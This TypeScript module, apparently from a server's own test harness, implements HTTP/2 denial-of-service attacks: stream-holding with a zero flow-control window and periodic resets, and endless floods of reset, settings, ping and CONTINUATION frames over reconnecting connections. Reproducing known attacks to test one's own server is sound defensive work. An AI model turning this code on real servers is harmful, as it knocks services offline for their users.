import { once } from 'node:events';
import { setTimeout } from 'node:timers/promises';
import { fixedLimits } from '../../../shared/limits.ts';
import {
  END_HEADERS,
  END_STREAM,
  getBlock,
  http2Frame,
  literal,
  noWindow,
  preface,
  repeatedFrame,
  resetRequests,
} from '../../support/http/http2Frames.ts';
import { connectTo, type Target } from './target.ts';

/** As in the observed attack: a new stream has a place that no other stream can take. */
const HELD_MS = 4_000;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const ACK = 1;
const payload = getBlock('/openapi.json');

/**
 * Opens HTTP/2 connections whose client accepts no content, each with the maximum of streams, which are reset after some
 * seconds and opened again, indefinitely. A connection that the server ends is opened again.
 */
export async function holdStreams(target: Target, connections: number, random: () => number): Promise<void> {
  await Promise.all(Array.from({ length: connections }, () => holdConnection(target, random)));
}

async function holdConnection(target: Target, random: () => number): Promise<void> {
  for (;;) {
    const socket = connectTo(target, 'h2');
    // The server's first frame is its settings.
    socket.once('data', () => socket.write(http2Frame('settings', { flags: ACK })));
    socket.resume().once('end', () => socket.destroy());
    socket.write(Buffer.concat([preface, noWindow()]));
    for (let stream = 1; !socket.destroyed; stream += 2 * fixedLimits.streamsPerConnection) {
      const streams = Array.from({ length: fixedLimits.streamsPerConnection }, (_, index) => stream + 2 * index);
      socket.write(Buffer.concat(streams.map((id) => open(id))));
      await setTimeout(HELD_MS * (0.9 + 0.2 * random()));
      socket.write(Buffer.concat(streams.map((id) => http2Frame('resetStream', { stream: id, payload: CANCEL }))));
    }
  }
}

function open(stream: number): Buffer {
  return http2Frame('headers', { flags: END_STREAM | END_HEADERS, stream, payload });
}

const CONNECTIONS = 10;
const unfinished = http2Frame('headers', { flags: END_STREAM, stream: 1, payload: literal(':method', 'GET') });

/** The bytes that one connection sends repeatedly. */
const floods = {
  resets: resetRequests(1_000),
  settings: repeatedFrame(1_000, http2Frame('settings')),
  pings: repeatedFrame(1_000, http2Frame('ping', { payload: Buffer.alloc(8) })),
  continuations: Buffer.concat([unfinished, repeatedFrame(1_000, http2Frame('continuation', { stream: 1 }))]),
};

/** Floods the server with frames of one kind. A connection that the server ends is opened again. */
export async function floodFrames(target: Target, kind: keyof typeof floods): Promise<void> {
  const flood = async () => {
    for (;;) {
      const socket = connectTo(target, 'h2').resume();
      socket.once('end', () => socket.destroy());
      socket.write(Buffer.concat([preface, http2Frame('settings')]));
      while (!socket.destroyed) {
        const closed = once(socket, 'close');
        if (!socket.write(floods[kind])) await Promise.race([once(socket, 'drain'), closed]);
        await setTimeout(1);
      }
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, flood));
}
